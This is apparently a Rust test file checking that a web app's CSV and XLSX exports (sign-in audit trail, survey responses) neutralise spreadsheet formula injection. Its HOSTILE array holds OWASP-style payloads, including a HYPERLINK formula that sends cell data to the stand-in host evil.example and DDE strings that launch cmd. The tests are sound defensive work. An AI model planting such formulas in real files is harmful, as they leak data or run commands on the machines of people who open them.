//! Downloads: what they may hold and how it is written. Every CSV export
//! goes through the shared writer, so text people typed never reaches a
//! spreadsheet as a formula; XLSX writes it as a text cell.

mod common;

use common::{Client, call, world};

/// What a hostile visitor types, per OWASP's CSV injection page.
const HOSTILE: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
];

fn cells(csv_text: &str, delimiter: u8) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(delimiter)
        .from_reader(csv_text.as_bytes());
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

/// No cell would run as a formula, and every hostile value typed is there,
/// neutralised by a leading `'`.
fn assert_neutralised(what: &str, csv_text: &str, delimiter: u8, expected: &[&str]) {
    let cells = cells(csv_text, delimiter);
    for cell in &cells {
        let first = cell.chars().next();
        let formula = matches!(first, Some('=' | '+' | '@' | '\t' | '\r'))
            || (first == Some('-') && !passerelle_csv::is_number(cell));
        assert!(!formula, "{what}: a cell would run as a formula: {cell:?}");
    }
    for value in expected {
        let neutralised = format!("'{value}");
        assert!(
            cells.iter().any(|c| c.contains(&neutralised)),
            "{what}: {neutralised:?} missing from\n{csv_text}"
        );
    }
}

#[tokio::test]
async fn the_audit_trail_export_neutralises_what_was_typed_at_sign_in() {
    let w = world().await;
    for value in HOSTILE {
        let form = serde_urlencoded::to_string([("email", value), ("password", "x")]).unwrap();
        let refused = call(
            &w.app,
            &Client::anonymous(),
            "POST",
            "/connexion",
            Some(&form),
        )
        .await;
        assert_ne!(refused.status.as_u16(), 303, "{value}");
    }
    let admin = Client::signed_in(&w.db, w.admin).await;
    let csv = call(&w.app, &admin, "GET", "/admin/journal.csv", None).await;
    assert_eq!(csv.status.as_u16(), 200);
    // The trail keeps the address as sign-in compares it: in lower case.
    let typed: Vec<String> = HOSTILE.iter().map(|v| v.to_lowercase()).collect();
    let typed: Vec<&str> = typed.iter().map(String::as_str).collect();
    assert_neutralised("journal", &csv.body, b',', &typed);
}

/// A questionnaire whose labels and "other" answers are hostile: the
/// responses file and the result tables neutralise them; the workbook
/// holds them as text, never as formulas.
#[tokio::test]
async fn survey_exports_neutralise_answers_and_labels() {
    let w = world().await;
    let questionnaire = format!(
        "id = \"hostile\"\ntitle = \"Essai\"\n\n[[questions]]\nid = \"q\"\ntype = \"single\"\n\
         text = \"Question\"\noptions = [{{ code = \"a\", label = {:?} }}, {{ code = \"b\", label = \"Bien\" }}]\n\
         other = \"Autre\"\n",
        HOSTILE[0]
    );
    w.db.create_survey(&passerelle_store::surveys::NewSurvey {
        slug: "hostile",
        structure_id: w.a,
        questionnaire: &questionnaire,
        access: passerelle_store::surveys::Access::Open,
        opens_on: None,
        closes_on: None,
    })
    .await
    .unwrap()
    .expect("a valid questionnaire");
    let anonymous = Client::anonymous();
    for answer in
        ["q=a".to_string()]
            .into_iter()
            .chain(HOSTILE.iter().map(|v| {
                serde_urlencoded::to_string([("q.other", *v), ("action", "envoyer")]).unwrap()
            }))
    {
        let form = if answer.contains("action=") {
            answer
        } else {
            format!("{answer}&action=envoyer")
        };
        let thanks = call(&w.app, &anonymous, "POST", "/enquetes/hostile", Some(&form)).await;
        assert_eq!(thanks.status.as_u16(), 200, "{form}: {}", thanks.body);
    }
    let membre = Client::signed_in(&w.db, w.membre_a).await;
    let responses = call(
        &w.app,
        &membre,
        "GET",
        "/enquetes/hostile/reponses.csv",
        None,
    )
    .await;
    assert_eq!(responses.status.as_u16(), 200);
    assert_neutralised("réponses", &responses.body, b',', &HOSTILE);
    let results = call(
        &w.app,
        &membre,
        "GET",
        "/enquetes/hostile/resultats.csv",
        None,
    )
    .await;
    assert_eq!(results.status.as_u16(), 200);
    assert_neutralised("résultats", &results.body, b';', &HOSTILE[..1]);
    let book = call(
        &w.app,
        &membre,
        "GET",
        "/enquetes/hostile/resultats.xlsx",
        None,
    )
    .await;
    assert_eq!(book.status.as_u16(), 200);
    {
        use calamine::{Data, Reader, Xlsx};
        let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(book.bytes.clone())).unwrap();
        let mut seen = false;
        for name in book.sheet_names() {
            let formulas = book.worksheet_formula(&name).unwrap();
            assert!(
                formulas.used_cells().all(|(_, _, f)| f.is_empty()),
                "{name}: no formula in the workbook"
            );
            let range = book.worksheet_range(&name).unwrap();
            seen |= range
                .used_cells()
                .any(|(_, _, c)| *c == Data::String(HOSTILE[0].to_string()));
        }
        assert!(seen, "the label is a text cell, as typed");
    }
}
